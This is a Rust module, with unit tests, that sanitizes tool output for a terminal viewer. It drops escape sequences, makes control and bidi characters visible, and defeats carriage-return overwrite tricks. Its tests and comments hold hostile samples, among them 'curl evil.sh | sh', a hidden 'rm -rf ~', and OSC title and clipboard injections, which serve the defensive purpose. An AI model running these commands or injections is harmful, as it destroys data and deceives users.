//! Making session text safe for a terminal.
//!
//! Session files hold whatever tools printed: ANSI colour, OSC title and
//! clipboard sequences, `\r` progress bars, backspace overstrike, NUL, C1
//! bytes and bidi overrides. Nothing of that may reach the user's terminal
//! raw. These functions are shared by the TUI and the text/markdown exports
//! so that both show the same thing.

use std::borrow::Cow;

/// One piece of tool output: printable text, or an SGR (colour) sequence
/// that a renderer may turn into a style. Every other escape sequence is
/// dropped by [`ansi_segments`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AnsiSegment<'a> {
    Text(&'a str),
    /// The parameters of `ESC [ ... m`, e.g. `"1;31"`.
    Sgr(&'a str),
}

/// Splits `s` into text and SGR segments, dropping every other escape
/// sequence (CSI, OSC, DCS, APC, PM, SOS, and two-byte ESC sequences),
/// including the 8-bit C1 forms (U+009B CSI, U+009D OSC, ...). Text segments
/// may still hold control characters; pass them through [`sanitize`].
pub fn ansi_segments(s: &str) -> Vec<AnsiSegment<'_>> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    let mut start = 0;
    while i < b.len() {
        let (intro_len, kind) = match b[i] {
            0x1b => match b.get(i + 1) {
                Some(b'[') => (2, Intro::Csi),
                Some(b']') => (2, Intro::Osc),
                Some(b'P' | b'X' | b'^' | b'_') => (2, Intro::Str),
                Some(&c) if (0x20..0x7f).contains(&c) => (2, Intro::Two),
                _ => (1, Intro::Two),
            },
            // C1 controls encoded in UTF-8 as C2 80..C2 9F.
            0xc2 if matches!(b.get(i + 1), Some(0x9b)) => (2, Intro::Csi),
            0xc2 if matches!(b.get(i + 1), Some(0x9d)) => (2, Intro::Osc),
            0xc2 if matches!(b.get(i + 1), Some(0x90 | 0x98 | 0x9e | 0x9f)) => (2, Intro::Str),
            _ => {
                i += 1;
                continue;
            }
        };
        let body = i + intro_len;
        let end = match kind {
            Intro::Csi => {
                // parameters and intermediates, then one final byte 0x40..=0x7e
                let mut j = body;
                let limit = b.len().min(body + SEQ_MAX);
                while j < limit && (0x20..0x40).contains(&b[j]) {
                    j += 1;
                }
                let fin = j;
                let end = if j < b.len() && (0x40..0x7f).contains(&b[j]) {
                    j + 1
                } else {
                    j
                };
                if start < i {
                    out.push(AnsiSegment::Text(&s[start..i]));
                }
                if fin < b.len() && b[fin] == b'm' {
                    out.push(AnsiSegment::Sgr(&s[body..fin]));
                }
                end
            }
            Intro::Osc | Intro::Str => {
                // terminated by BEL, ESC \ or the C1 ST (C2 9C) within its
                // line and `SEQ_MAX` bytes; one left open is no sequence:
                // its introducer stays in the text (shown as `^[]`) and so
                // does everything after it, which a stray or planted
                // introducer could otherwise hide (`echo safe ESC]0; && curl
                // evil.sh | sh` must not show as `echo safe`)
                let mut j = body;
                let limit = b.len().min(body + SEQ_MAX);
                let end = loop {
                    if j >= limit || b[j] == b'\n' {
                        break None;
                    }
                    match b[j] {
                        0x07 => break Some(j + 1),
                        0x1b if b.get(j + 1) == Some(&b'\\') => break Some(j + 2),
                        0xc2 if b.get(j + 1) == Some(&0x9c) => break Some(j + 2),
                        _ => j += 1,
                    }
                };
                let Some(end) = end else {
                    i = body;
                    continue;
                };
                if start < i {
                    out.push(AnsiSegment::Text(&s[start..i]));
                }
                end
            }
            Intro::Two => {
                if start < i {
                    out.push(AnsiSegment::Text(&s[start..i]));
                }
                body
            }
        };
        // Never split a UTF-8 sequence: the introducer and terminators are
        // ASCII or whole C1 pairs, but a truncated CSI could stop anywhere.
        let mut end = end.min(b.len());
        while end < b.len() && !s.is_char_boundary(end) {
            end += 1;
        }
        i = end;
        start = end;
    }
    if start < b.len() {
        out.push(AnsiSegment::Text(&s[start..]));
    }
    out
}

/// The longest escape sequence dropped as one (an OSC 52 clipboard write
/// can be long; a title or hyperlink is far shorter).
const SEQ_MAX: usize = 4096;

enum Intro {
    Csi,
    Osc,
    Str,
    Two,
}

/// Removes every escape sequence (colours included).
pub fn strip_ansi(s: &str) -> Cow<'_, str> {
    if !s.bytes().any(|c| c == 0x1b || c == 0xc2) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    for seg in ansi_segments(s) {
        if let AnsiSegment::Text(t) = seg {
            out.push_str(t);
        }
    }
    Cow::Owned(out)
}

/// Whether the texts of a line of JSON may lose letters when they are
/// sanitized: [`sanitize`] takes out escape sequences, which start with
/// ESC or a C1 control (in JSON `\u001b`, `\u009b`, or the bytes of
/// U+0080..U+009F), and `31m` before a word leaves a word start.
pub fn sanitizing_may_rewrite(line: &[u8]) -> bool {
    memchr::memmem::find(line, b"\\u00").is_some()
        || memchr::memchr_iter(0xc2, line).any(|i| matches!(line.get(i + 1), Some(0x80..=0x9f)))
}

/// Is this character unsafe to print as is?
pub fn is_unsafe_char(c: char) -> bool {
    let u = c as u32;
    (u < 0x20 && c != '\n' && c != '\t')
        || u == 0x7f
        || (0x80..0xa0).contains(&u)
        || is_bidi_control(c)
        || matches!(u, 0x2028 | 0x2029 | 0xfeff)
}

/// Whether `s` holds a character [`is_unsafe_char`] refuses, found from
/// the bytes: search and drawing call [`sanitize`] on every text, and most
/// texts hold none (a char-by-char test took a third of a search). The
/// bytes that may start one are found 16 at a time, passing over line
/// breaks, tabs and the characters of other scripts (`→` is on every line
/// of a file's listing).
pub fn needs_sanitizing(s: &str) -> bool {
    let b = s.as_bytes();
    let mut at = 0;
    while let Some(i) = super::plain_run::suspect(b, at) {
        if b[i] < 0x80 || unsafe_char_at(b, i) {
            return true;
        }
        at = i + 1;
    }
    false
}

/// Whether the character that starts at `b[i]` (a byte from 0x80 up) is
/// one [`is_unsafe_char`] refuses: a C1 control, a bidi control, a line or
/// paragraph separator, or a byte order mark.
pub fn unsafe_char_at(b: &[u8], i: usize) -> bool {
    match b[i] {
        // U+0080..U+009F (C1)
        0xc2 => matches!(b.get(i + 1), Some(0x80..=0x9f)),
        // U+061C
        0xd8 => b.get(i + 1) == Some(&0x9c),
        // U+200E U+200F U+2028 U+2029 U+202A..U+202E, U+2066..U+2069
        0xe2 => match b.get(i + 1) {
            Some(0x80) => matches!(b.get(i + 2), Some(0x8e | 0x8f | 0xa8..=0xae)),
            Some(0x81) => matches!(b.get(i + 2), Some(0xa6..=0xa9)),
            _ => false,
        },
        // U+FEFF
        0xef => b.get(i + 1) == Some(&0xbb) && b.get(i + 2) == Some(&0xbf),
        _ => false,
    }
}

fn is_bidi_control(c: char) -> bool {
    matches!(c as u32, 0x200e | 0x200f | 0x202a..=0x202e | 0x2066..=0x2069 | 0x061c)
}

/// The visible stand-in for an unsafe character, as `less` shows them:
/// `^[` for ESC, `^@` for NUL, `<U+202E>` for the rest.
pub fn visible_escape(c: char, out: &mut String) {
    let u = c as u32;
    if u < 0x20 {
        out.push('^');
        out.push((u as u8 + b'@') as char);
    } else if u == 0x7f {
        out.push_str("^?");
    } else {
        out.push_str(&format!("<U+{u:04X}>"));
    }
}

/// Bytes read from a file as a `String`, a bad byte as U+FFFD, without a
/// copy when they are UTF-8: checked 32 bytes at a time (`simdutf8`;
/// `String::from_utf8_lossy`'s walk was two fifths of a search through
/// outputs saved apart, its copy a sixth).
pub fn string_of_bytes(bytes: Vec<u8>) -> String {
    if simdutf8::basic::from_utf8(&bytes).is_ok() {
        // SAFETY: the bytes were just found to be UTF-8
        return unsafe { String::from_utf8_unchecked(bytes) };
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Makes text safe to print: escape sequences removed, backspace
/// overstrike resolved, and any other control character shown as `^X` /
/// `<U+XXXX>`. Newlines and tabs are kept. `\r\n` is a newline, and so is
/// a lone `\r`: a terminal would let the text after it overwrite the text
/// before, which would let a session hide words (`rm -rf ~ \rharmless`);
/// here every frame stays readable.
pub fn sanitize(s: &str) -> Cow<'_, str> {
    if !needs_sanitizing(s) {
        return Cow::Borrowed(s);
    }
    let stripped = strip_ansi(s);
    let mut out = String::with_capacity(stripped.len());
    for (n, line) in stripped.split('\n').enumerate() {
        if n > 0 {
            out.push('\n');
        }
        let line = line.strip_suffix('\r').unwrap_or(line);
        for (k, frame) in line.split('\r').enumerate() {
            if k > 0 {
                out.push('\n');
            }
            push_line_sanitized(frame, &mut out);
        }
    }
    Cow::Owned(out)
}

fn push_line_sanitized(line: &str, out: &mut String) {
    let line_start = out.len();
    for c in line.chars() {
        if c == '\u{8}' {
            // overstrike: "a\bb" shows "b"
            if out.len() > line_start {
                out.pop();
            }
            continue;
        }
        if is_unsafe_char(c) {
            visible_escape(c, out);
        } else {
            out.push(c);
        }
    }
}

/// The most bytes of one grapheme cluster a terminal is sent. A letter
/// under thousands of combining marks, or a chain of emoji joined into
/// one, is one cluster and so one cell, sent whole at every redraw of its
/// row: a prompt under 200,000 marks made a two-row session write 810 KB
/// to the terminal (2 KB cut). No terminal keeps that much of a cell
/// (tmux keeps 21 bytes); a script or an emoji needs far less (a family
/// with skin tones is 41 bytes).
pub const CLUSTER_BYTES: usize = 64;

const JOINER: char = '\u{200d}';

/// `s` with each grapheme cluster as a terminal draws it in the room it
/// was given: a cluster of more than [`CLUSTER_BYTES`] cut to its first
/// characters, and no zero-width joiner (U+200D) that joins nothing, one
/// that ends a cluster (`a` + joiner + `b`, one at the end of a text). A
/// terminal joins the next character it is sent to such a joiner's
/// cell, wherever that character was meant to go (tmux 3.3: a table's
/// next column, the next row's first cell). Joiners inside a cluster
/// (`👨‍👩‍👧`, an Indic conjunct) join what terminals draw as one, and stay.
pub fn fit_clusters(s: &str) -> Cow<'_, str> {
    use unicode_segmentation::UnicodeSegmentation;
    let unfit = |g: &str| g.len() > CLUSTER_BYTES || g.ends_with(JOINER);
    if s.is_ascii() || !s.graphemes(true).any(unfit) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    for g in s.graphemes(true) {
        out.push_str(fit_cluster(g));
    }
    Cow::Owned(out)
}

/// One grapheme cluster as [`fit_clusters`] leaves it.
pub fn fit_cluster(g: &str) -> &str {
    let mut end = g.len();
    if end > CLUSTER_BYTES {
        // (the first character always: the cluster's base)
        end = g
            .char_indices()
            .map(|(i, c)| i + c.len_utf8())
            .take_while(|&e| e <= CLUSTER_BYTES)
            .last()
            .unwrap_or_else(|| g.chars().next().map_or(0, char::len_utf8));
    }
    g.get(..end).unwrap_or(g).trim_end_matches(JOINER)
}

/// One line that is safe to print on a terminal (stderr messages, paths):
/// escape sequences dropped, control characters made visible, line breaks
/// turned into spaces. A file named `evil\e]2;X\a.jsonl` cannot retitle
/// the terminal through an error message.
pub fn term_line(s: &str) -> String {
    // every control character shown, none interpreted: `^[]2;X^G` names
    // the file a user has to find, where dropping the sequence would not
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\n' | '\r' => out.push(' '),
            c if is_unsafe_char(c) || c == '\t' => visible_escape(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

/// [`term_line`] of a path.
pub fn term_path(p: &std::path::Path) -> String {
    term_line(&p.to_string_lossy())
}

/// `s` cut to at most `width` terminal columns, ending in `…` when cut.
pub fn fit_end(s: &str, width: usize) -> String {
    use unicode_width::UnicodeWidthChar;
    if unicode_width::UnicodeWidthStr::width(s) <= width {
        return s.to_owned();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in s.chars() {
        let w = c.width().unwrap_or(0);
        if used + w + 1 > width {
            break;
        }
        used += w;
        out.push(c);
    }
    if width > 0 {
        out.push('…');
    }
    out
}

/// `s` cut to at most `width` columns by dropping its middle: a path keeps
/// its start and its file name (`src/…/routes.ts`).
pub fn fit_middle(s: &str, width: usize) -> String {
    use unicode_width::UnicodeWidthChar;
    if unicode_width::UnicodeWidthStr::width(s) <= width {
        return s.to_owned();
    }
    if width < 5 {
        return fit_end(s, width);
    }
    let keep = width - 1;
    let tail_w = keep.div_ceil(2).max(keep * 3 / 5);
    let head_w = keep - tail_w;
    let mut head = String::new();
    let mut used = 0;
    for c in s.chars() {
        let w = c.width().unwrap_or(0);
        if used + w > head_w {
            break;
        }
        used += w;
        head.push(c);
    }
    let mut tail: Vec<char> = Vec::new();
    let mut used = 0;
    for c in s.chars().rev() {
        let w = c.width().unwrap_or(0);
        if used + w > tail_w {
            break;
        }
        used += w;
        tail.push(c);
    }
    tail.reverse();
    let tail: String = tail.into_iter().collect();
    format!("{head}…{tail}")
}

/// Truncates to at most `max` bytes at a char boundary, appending `…`.
pub fn truncate(s: &str, max: usize) -> Cow<'_, str> {
    if s.len() <= max {
        return Cow::Borrowed(s);
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    Cow::Owned(format!("{}…", &s[..end]))
}

/// First line of `s`, trimmed, in at most `max` columns.
pub fn first_line(s: &str, max: usize) -> String {
    fit_end(s.trim_start().lines().next().unwrap_or("").trim(), max)
}

/// `n` of what `what` names, its first word made plural unless `n` is 1
/// (`2 subagents whose transcript is not here`).
pub fn counted(n: u64, what: &str) -> String {
    let s = if n == 1 { "" } else { "s" };
    match what.split_once(' ') {
        Some((noun, rest)) => format!("{n} {noun}{s} {rest}"),
        None => format!("{n} {what}{s}"),
    }
}

/// `1234567` as `1,234,567`.
pub fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// `156k`, `3.2M`, `9.4B`.
pub fn human_tokens(n: u64) -> String {
    if n < 1000 {
        n.to_string()
    } else if n < 10_000 {
        // one decimal while it says something: 1.5k, not 2k
        format!("{:.1}k", n as f64 / 1000.0)
    } else if n < 1_000_000 {
        format!("{}k", (n + 500) / 1000)
    } else if n < 1_000_000_000 {
        format!("{:.1}M", n as f64 / 1e6)
    } else {
        format!("{:.1}B", n as f64 / 1e9)
    }
}

#[cfg(test)]
mod byte_scan_tests {
    /// The byte scan agrees with the char rule on every character.
    #[test]
    fn the_byte_scan_is_the_char_rule() {
        for u in 0..=0x10ffff_u32 {
            let Some(c) = char::from_u32(u) else { continue };
            // short, and in a 16-byte part behind a newline and a tab
            for s in [format!("ab{c}cd"), format!("a\tbcdef\n{c}ghijklmnop")] {
                assert_eq!(
                    super::needs_sanitizing(&s),
                    super::is_unsafe_char(c),
                    "U+{u:04X} in {s:?}"
                );
            }
        }
    }

    /// A character at any place of a text, among newlines, tabs and
    /// characters of several bytes, is found or passed as the char rule says.
    #[test]
    fn the_byte_scan_finds_a_character_anywhere() {
        let fill = "ab\ncé\td日efgh\nijklmnopqrstuvwxyz0123456789";
        for c in [
            'x', '\n', '\t', '\u{1b}', '\u{7f}', '\u{85}', '\u{202e}', 'é', '日', '\u{feff}',
        ] {
            for at in 0..fill.len() {
                let Some((head, tail)) = fill.get(..at).zip(fill.get(at..)) else {
                    continue;
                };
                let s = format!("{head}{c}{tail}");
                assert_eq!(
                    super::needs_sanitizing(&s),
                    s.chars().any(super::is_unsafe_char),
                    "{s:?}"
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A count says its noun once, plural but for one.
    #[test]
    fn counted_makes_the_first_word_plural() {
        assert_eq!(
            counted(1, "subagent whose transcript is not here"),
            "1 subagent whose transcript is not here"
        );
        assert_eq!(
            counted(2, "subagent whose transcript is not here"),
            "2 subagents whose transcript is not here"
        );
        assert_eq!(counted(0, "message"), "0 messages");
    }

    #[test]
    fn strips_csi_osc_and_keeps_sgr_segments() {
        let s = "a\x1b[31mred\x1b[0m\x1b]0;title\x07b\x1b[2Jc\x1b]52;c;aGVsbG8=\x1b\\d";
        let segs = ansi_segments(s);
        assert_eq!(
            segs,
            vec![
                AnsiSegment::Text("a"),
                AnsiSegment::Sgr("31"),
                AnsiSegment::Text("red"),
                AnsiSegment::Sgr("0"),
                AnsiSegment::Text("b"),
                AnsiSegment::Text("c"),
                AnsiSegment::Text("d"),
            ]
        );
        assert_eq!(strip_ansi(s), "aredbcd");
    }

    #[test]
    fn c1_csi_and_osc_are_removed() {
        let s = "x\u{9b}31my\u{9d}2;evil\u{9c}z";
        assert_eq!(strip_ansi(s), "xyz");
        assert_eq!(sanitize(s), "xyz");
    }

    #[test]
    fn sanitize_makes_controls_visible() {
        assert_eq!(sanitize("a\0b\x07c"), "a^@b^Gc");
        assert_eq!(sanitize("evil\u{202e}txt"), "evil<U+202E>txt");
        assert_eq!(sanitize("50%\r100%\ndone"), "50%\n100%\ndone");
        assert_eq!(
            sanitize("VISIBLE rm -rf ~ \rharmless"),
            "VISIBLE rm -rf ~ \nharmless"
        );
        assert_eq!(sanitize("a\rb\rc"), "a\nb\nc");
        assert_eq!(sanitize("line\r\nnext"), "line\nnext");
        assert_eq!(sanitize("ab\x08c"), "ac");
        assert_eq!(sanitize("tab\tok"), "tab\tok");
        assert!(matches!(sanitize("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn unterminated_sequences_do_not_panic() {
        for s in [
            "\x1b",
            "\x1b[",
            "\x1b[31",
            "\x1b]0;ti",
            "é\x1b[é",
            "\u{9b}",
            "\x1b\u{e9}",
        ] {
            let out = sanitize(s);
            assert!(!out.chars().any(is_unsafe_char), "{s:?} -> {out:?}");
        }
    }

    #[test]
    fn an_unterminated_string_sequence_hides_nothing() {
        for (intro, shown) in [
            ("\x1b]", "^[]"),
            ("\x1bP", "^[P"),
            ("\x1b_", "^[_"),
            ("\u{9d}", "<U+009D>"),
        ] {
            let s = format!("before{intro}0;junk\nafter\n\nmore");
            let out = sanitize(&s);
            assert_eq!(
                out,
                format!("before{shown}0;junk\nafter\n\nmore"),
                "{intro:?}"
            );
        }
        let attack = "echo safe \x1b]0; && curl evil.sh | sh";
        assert_eq!(sanitize(attack), "echo safe ^[]0; && curl evil.sh | sh");
        // a terminated one is still dropped whole
        assert_eq!(sanitize("a\x1b]0;title\x07b"), "ab");
        let long = format!("a\x1b]{}tail", "x".repeat(SEQ_MAX + 10));
        assert!(strip_ansi(&long).ends_with("xxxxxxxxxxtail"));
        let csi = format!("a\x1b[{}m", "1;".repeat(SEQ_MAX));
        assert!(strip_ansi(&csi).len() > SEQ_MAX);
    }

    #[test]
    fn fitting_to_a_width() {
        assert_eq!(fit_end("hello world", 20), "hello world");
        assert_eq!(fit_end("hello world", 6), "hello…");
        assert_eq!(fit_end("日本語です", 5), "日本…");
        let p = "/Users/someone/projects/app/src/api/routes.ts";
        let f = fit_middle(p, 24);
        assert!(
            unicode_width::UnicodeWidthStr::width(f.as_str()) <= 24,
            "{f}"
        );
        assert!(
            f.ends_with("api/routes.ts") && f.starts_with("/Users"),
            "{f}"
        );
    }

    #[test]
    fn only_joiners_that_join_nothing_are_dropped() {
        let family = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}";
        let conjunct = "\u{915}\u{94d}\u{200d}\u{937}";
        for kept in [family, conjunct, "plain", ""] {
            assert_eq!(fit_clusters(kept), kept);
            assert!(matches!(fit_clusters(kept), Cow::Borrowed(_)));
        }
        assert_eq!(fit_clusters("a\u{200d}b"), "ab");
        assert_eq!(fit_clusters("x\u{200d}"), "x");
        assert_eq!(fit_clusters("\u{200d}\u{200d} y"), " y");
        assert_eq!(
            fit_clusters(&format!("{family}\u{200d} and\u{200d}")),
            format!("{family} and")
        );
        // a cluster past the bound: its base and what fits, then the rest
        let zalgo = format!("z{} end", "\u{301}".repeat(5000));
        let fit = fit_clusters(&zalgo);
        assert!(fit.starts_with('z') && fit.ends_with(" end"), "{fit}");
        assert!(fit.len() <= CLUSTER_BYTES + 4, "{}", fit.len());
        let chain = format!("{}\u{1f468} x", "\u{1f468}\u{200d}".repeat(300));
        let fit = fit_clusters(&chain);
        assert!(fit.starts_with('\u{1f468}') && fit.ends_with(" x"), "{fit}");
        assert!(
            fit.len() <= CLUSTER_BYTES + 2 && !fit.contains("\u{200d} "),
            "{fit}"
        );
    }
}
